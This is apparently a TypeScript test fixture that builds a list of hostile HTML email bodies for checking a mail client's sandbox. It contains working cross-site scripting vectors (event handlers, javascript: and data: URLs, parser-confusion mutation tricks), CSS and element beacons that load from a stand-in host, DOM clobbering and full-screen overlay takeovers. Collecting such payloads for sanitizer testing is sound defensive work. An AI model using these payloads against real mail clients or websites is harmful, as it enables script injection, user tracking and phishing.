/*
 * HTML that has tried to leave its frame in one mail program or another, written down anew. `hacked` is what a script
 * would set; t.example is where a request would go. It is asked by http: what is seen there is a request. By https it
 * could be a connection alone, such as Chromium opens for a frame in the frame before it asks the policy.
 */
const mark = 'top.hacked=1;window.hacked=1;alert(1)';
const away = 'http://t.example/x';

const handlers = [
  'onerror',
  'onload',
  'onfocus autofocus',
  'onmouseover',
  'ontoggle',
  'onanimationstart',
  'onbegin',
  'onrepeat',
  'onpointerrawupdate',
  'onscrollend',
];

const addresses = [
  `javascript:${mark}`,
  `JaVaScRiPt:${mark}`,
  `java\tscript:${mark}`,
  `&#106;avascript:${mark}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${mark}</script>`,
  `data:text/html;base64,PHNjcmlwdD50b3AuaGFja2VkPTE8L3NjcmlwdD4=`,
  `blob:${away}`,
  '//t.example/x',
];

const loaders = [
  `<img src="${away}">`,
  `<img srcset="${away} 1x, ${away}2 2x">`,
  `<picture><source srcset="${away}"><img></picture>`,
  `<video src="${away}" poster="${away}" autoplay></video>`,
  `<audio src="${away}" autoplay></audio>`,
  `<body background="${away}">ground</body>`,
  `<table background="${away}"><tr><td background="${away}">cell</td></tr></table>`,
  `<div style="background:url(${away})">one</div>`,
  `<div style="background:\\75rl(${away})">two</div>`,
  `<div style="--u:url(${away});background:var(--u)">three</div>`,
  `<div style="background-image:image-set('${away}' 1x)">four</div>`,
  `<div style="list-style:url(${away})">five</div>`,
  `<div style="cursor:url(${away}),auto">six</div>`,
  `<div style="content:url(${away})">seven</div>`,
  `<div style="background:url(${away}) var(--a,)">eight</div>`,
  `<div style="background:url(${away}) env(a,)">nine</div>`,
  `<div style="background-image:\\75rl(${away}) v\\61r(--a,)">ten</div>`,
  `<div style="list-style:var(--a,) url(${away});border-image:url(${away}) 1 var(--a,)">eleven</div>`,
  `<div style="mask:var(--a,url(${away}));-webkit-mask:url(${away}) var(--a,)">twelve</div>`,
  `<div style="background:if(else:url(${away}))">thirteen</div>`,
  `<div title="x" style="content:attr(title) var(--a,url(${away}))">fourteen</div>`,
  `<div style="background-image:-webkit-image-set(url(${away}) 1x);filter:url(${away}#f)">fifteen</div>`,
  `<style>p{background:url(${away}) var(--a,)}</style><p>words</p>`,
  `<style>p{background-image:\\75rl(${away}) v\\61r(--a,)}</style><p>words</p>`,
  `<style>@property --p{syntax:"<image>";inherits:false;initial-value:url(${away})}p{background:var(--p)}</style><p>words</p>`,
  `<style>@function --f(){result:url(${away})}p{background:--f()}</style><p>words</p>`,
  `<style>@page{background:url(${away});@top-left{content:url(${away})}}</style><p>words</p>`,
  `<style>@layer a{p{background:url(${away})}}@scope(p){:scope{background:url(${away})}}</style><p>words</p>`,
  `<style>@container (width>0){p{background:url(${away})}}div{&amp; p,p&amp;{background:url(${away})}}</style><div><p>words</p></div>`,
  `<style>@keyframes k{to{background:url(${away})}}p{animation:k 1ms}</style><p>words</p>`,
  `<style>p{background-image:image-set("${away}" 1x) ;cursor:url(${away}) var(--a,)}</style><p>words</p>`,
  `<style>@import '${away}';</style>words`,
  `<style>@im\\port url(${away});a{x:"&quot;}*{background:url(${away})}"}</style><a>words</a>`,
  `<style>@font-face{font-family:f;src:url(${away})}p{font-family:f}</style><p>words</p>`,
  `<style>p[class^="s"]{background:url(${away})}</style><p class="secret">words</p>`,
  `<style>@media all{p{background:url(${away})}}</style><p>words</p>`,
  `<style>@supports (display:block){p{background:url(${away})}}</style><p>words</p>`,
  `<link rel="stylesheet" href="${away}"><link rel="prefetch" href="${away}"><link rel="dns-prefetch" href="//t.example">words`,
  `<base href="http://t.example/"><img src="x.png"><a href="y">words</a>`,
  `<meta http-equiv="refresh" content="0;url=${away}">words`,
  `<iframe src="${away}"></iframe><frameset><frame src="${away}"></frameset>`,
  `<object data="${away}"></object><embed src="${away}"><applet code="${away}"></applet>`,
  `<svg><image href="${away}"/><use href="${away}#x"/><feImage href="${away}"/></svg>`,
  `<svg><rect fill="url(${away}#x)"/><style>@import '${away}'</style></svg>`,
  `<input type="image" src="${away}"><isindex src="${away}">`,
  `<img src="/api/trpc/users.me"><img src="api/auth/signout"><img src="/mail/all/inbox" srcset="/api/health 1x">`,
  `<div style="background:url(/api/health)">words</div><style>p{background:url(/api/health) var(--a,)}</style><p>words</p>`,
  `<form action="${away}"><input name="password"><button>go</button></form>`,
  `<a href="${away}" ping="${away}/ping">words</a>`,
  `<html manifest="${away}"><body>words</body></html>`,
];

const scripts = [
  `<script>${mark}</script>words`,
  `<script src="${away}"></script>words`,
  `<svg onload="${mark}"></svg>`,
  `<svg><script>${mark}</script></svg>`,
  `<svg><a><animate attributeName="href" values="javascript:${mark}"/><text y="20">t</text></a></svg>`,
  `<svg><set attributeName="onmouseover" to="${mark}"/></svg>`,
  `<svg><animateTransform onbegin="${mark}"/></svg>`,
  `<svg><use href="dAta:image/s&#9;vg+xml;base64,PHN2ZyBpZD0ieCIgb25sb2FkPSJ0b3AuaGFja2VkPTEiLz4=#x"></use></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${mark}&gt;">`,
  `<math href="javascript:${mark}">words</math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${mark}">`,
  `<noscript><p title="</noscript><img src=x onerror=${mark}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${mark}>">`,
  `<textarea><p title="</textarea><img src=x onerror=${mark}>">`,
  `<title><p title="</title><img src=x onerror=${mark}>">`,
  `<plaintext><img src=x onerror=${mark}>`,
  `<template><img src=x onerror="${mark}"></template>words`,
  `<div><template shadowrootmode="open"><img src=x onerror="${mark}"></template></div>`,
  `<a title="</noscript><img src=x onerror=${mark}>">words</a>`,
  `<img src="x" title="\`><img src=x onerror=${mark}>">`,
  `<!--[if gte IE 4]><script>${mark}</script><![endif]-->words`,
  `<!--><img src=x onerror=${mark}>-->words`,
  `<![CDATA[><img src=x onerror=${mark}>]]>words`,
  `+ADw-script+AD4-${mark}+ADw-/script+AD4-`,
  `<x-y is="z" onclick="${mark}">words</x-y>`,
  `<body onload="${mark}" class='"><script>${mark}</script>' title="</title>">words</body>`,
  `<div style="width:expression(${mark});-moz-binding:url(${away});behavior:url(${away})">words</div>`,
  `${'<div>'.repeat(600)}<style><img src=x onerror=${mark}></style>${'</div>'.repeat(600)}`,
  `<select><option><style></select><img src=x onerror=${mark}></style></select>`,
  `<table><caption><svg><title><table><a title="</table></title></svg><img src=x onerror=${mark}>">`,
];

const takeovers = [
  `<style>h1{position : fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999;background:red}</style><h1>OVER</h1>`,
  `<div style="position:fixed!important;inset:0;background:red">OVER</div>`,
  `<img name="getElementById"><form id="document"><input name="body"></form><a id="location" name="top">words</a>`,
  `<a href="https://real.example" target="_top">words</a><a target="_self" href="${away}">more</a>`,
];

/** Each is the HTML of one mail. */
export const payloads: readonly string[] = [
  ...handlers.map(
    (handler) => `<img src="x:y" ${handler}="${mark}"><details open ${handler}="${mark}">words</details>`,
  ),
  ...addresses.map(
    (address) =>
      `<a href="${address}">words</a><img src="${address}"><form action="${address}"><button formaction="${address}">b</button></form>`,
  ),
  ...loaders,
  ...scripts,
  ...takeovers,
];
